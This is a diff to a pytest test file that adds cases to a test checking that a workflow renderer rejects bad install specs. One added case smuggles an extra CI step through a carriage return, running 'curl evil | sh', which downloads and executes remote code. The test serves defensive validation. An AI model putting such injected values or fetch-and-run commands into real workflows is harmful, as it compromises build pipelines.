@@ -186,7 +186,16 @@ def test_workflow_follows_notify_github(tmp_path: Path) -> None:
     assert code == 0 and "pip install dailypapers==9.9" in (tmp_path / WORKFLOW_PATH).read_text()
 
 
-@pytest.mark.parametrize("spec", ["", "a\nb"])
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "",
+        "a\nb",
+        "dailypapers\r      - run: curl evil | sh",
+        "\x1b[31mx",
+        "a\u2028b",
+    ],  # a \r: a step
+)
 def test_bad_install_specs_are_refused(spec: str) -> None:
     with pytest.raises(ValueError):
         render_workflow(issues=False, install=spec)
